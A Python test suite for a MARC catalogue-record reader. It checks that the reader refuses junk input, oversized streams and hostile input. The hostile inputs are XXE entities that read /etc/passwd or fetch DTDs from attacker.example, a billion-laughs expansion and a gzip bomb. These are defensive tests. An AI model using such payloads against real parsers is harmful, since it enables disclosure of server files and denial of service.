"""Attacks and accidents: the reader refuses them and its memory stays flat."""

from __future__ import annotations

import gzip
import io
import tracemalloc
from collections.abc import Iterator
from itertools import chain, islice, repeat

import pytest

from services.resources.cataloguing.marc.limits import Limits
from services.resources.cataloguing.marc.outcome import Accepted, Refused
from services.resources.cataloguing.marc.reading import read
from tests.resources.marc.sample import a_marc21, accepted, outcomes

MEGABYTE = 1024 * 1024
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 8
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


class Pipe(io.BytesIO):
    """A stream made of chunks as they are asked for; nothing is held."""

    def __init__(self, chunks: Iterator[bytes]) -> None:
        super().__init__()
        self._chunks = chunks

    def read(self, size: int | None = -1, /) -> bytes:
        return next(self._chunks, b"")


def peak_of(chunks: Iterator[bytes], limits: Limits) -> tuple[int, int, int]:
    """Peak memory, records accepted and refused over a stream."""
    tracemalloc.start()
    good = bad = 0
    for outcome in read(Pipe(chunks), limits=limits):
        good += isinstance(outcome, Accepted)
        bad += isinstance(outcome, Refused)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, good, bad


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"   \r\n\x00", "empty"),
        (b"dear reader,\nplease find attached\n", "unknown-format"),
        (PNG, "unknown-format"),
        (b"%PDF-1.7\n" + bytes(2000), "unknown-format"),
        (b"<html><body>Not found</body></html>", "no-records"),
        (b"[]", "no-records"),
        (b"<collection/>", "no-records"),
    ],
)
def test_what_is_no_marc_file_is_refused_in_one_sentence(data: bytes, code: str) -> None:
    (refused,) = outcomes(data)
    assert isinstance(refused, Refused)
    assert refused.code == code
    assert refused.message


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE c SYSTEM "http://attacker.example/evil.dtd">',
        f'<!DOCTYPE c [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!doctype c [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>',
    ],
)
def test_document_types_and_entities_are_never_processed(declared: str) -> None:
    record = a_marc21().to_marcxml()
    (refused,) = outcomes(f'<?xml version="1.0"?>{declared}<c>{record}</c>'.encode())
    assert isinstance(refused, Refused)
    assert refused.code == "doctype"


def test_an_entity_without_a_declaration_costs_its_record() -> None:
    sound = a_marc21().to_marcxml()
    found = outcomes(f"<c>{sound.replace('Doe', '&l9;')}{sound}</c>".encode())
    assert [type(o) for o in found] == [Refused, Accepted]


def test_a_gzip_bomb_is_stopped_early() -> None:
    packed = gzip.compress(b" " * 300 * MEGABYTE, 9)
    limits = Limits(unpack_ratio=100)
    tracemalloc.start()
    (refused,) = outcomes(packed, limits)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert isinstance(refused, Refused)
    assert refused.code == "gzip-bomb"
    assert peak < 8 * MEGABYTE


def test_a_damaged_gzip_file_keeps_what_could_be_unpacked() -> None:
    one = a_marc21().to_iso2709()
    packed = gzip.compress(one * 2000, 1)
    found = outcomes(packed[: len(packed) * 2 // 3])
    assert isinstance(found[0], Accepted)
    assert isinstance(found[-1], Refused)
    assert found[-1].code == "gzip-damaged"


def test_the_total_size_is_bounded() -> None:
    one = a_marc21().to_iso2709()
    found = list(read(Pipe(repeat(one * 100)), limits=Limits(total_bytes=MEGABYTE)))
    assert isinstance(found[-1], Refused)
    assert found[-1].code == "too-big"
    assert len(found) > 1000


def test_a_huge_sparse_file_needs_no_memory() -> None:
    zeros = bytes(MEGABYTE)
    one = a_marc21().to_iso2709()
    holes = chain([one], repeat(zeros, 300), [one], repeat(zeros, 100))
    peak, good, bad = peak_of(holes, Limits())
    assert (good, bad) == (2, 0)
    assert peak < 8 * MEGABYTE


def test_a_hundred_thousand_records_need_no_more_memory_than_a_thousand() -> None:
    batch = a_marc21().to_iso2709() * 100
    small, _, _ = peak_of(islice(repeat(batch), 10), Limits())
    large, good, _ = peak_of(islice(repeat(batch), 100), Limits())
    assert good == 10_000
    assert large < small + MEGABYTE


@pytest.mark.parametrize(
    "endless",
    [a_marc21().to_iso2709()[:-1], b"<c><record><leader>", b'[{"leader": "', b"<c><!-- "],
    ids=["iso2709", "xml", "json", "comment"],
)
def test_a_record_without_end_is_refused_and_the_next_one_read(endless: bytes) -> None:
    one = a_marc21()
    after = {b"<": one.to_marcxml().encode(), b"[": b',{"leader":"","fields":[{"001":"x"}]}]'}
    rest = after.get(endless[:1], b"\x1d" + one.to_iso2709())
    limits = Limits(record_bytes=200_000)
    close = b" -->" if b"!" in endless else b""
    stream = chain([endless], repeat(b"x" * 10_000, 300), [close + rest])
    found = list(read(Pipe(stream), limits=limits))
    assert isinstance(found[-1], Accepted)
    if b"!" not in endless:
        assert [o.code for o in found[:-1] if isinstance(o, Refused)] == ["too-long"]


def test_too_many_fields_are_refused() -> None:
    record = a_marc21(*(a_marc21().fields[-1] for _ in range(50)))
    for written in (record.to_iso2709(), record.to_marcxml().encode()):
        (refused,) = outcomes(written, Limits(record_fields=40))
        assert isinstance(refused, Refused)
        assert refused.code == "too-many-fields"
    assert len(accepted(record.to_iso2709())) == 1
